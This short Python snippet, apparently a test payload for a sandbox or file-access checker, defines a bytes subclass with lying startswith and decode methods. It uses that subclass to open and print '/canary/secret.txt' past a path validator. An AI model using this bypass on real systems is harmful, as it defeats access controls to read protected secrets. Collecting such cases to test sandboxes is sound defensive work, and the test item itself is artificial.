# READ: bytes subclass with lying startswith/decode
class B(bytes):
    def startswith(self, *a): return False
    def decode(self, *a, **k): return 'main.py'
print(open(B(b'/canary/secret.txt')).read())
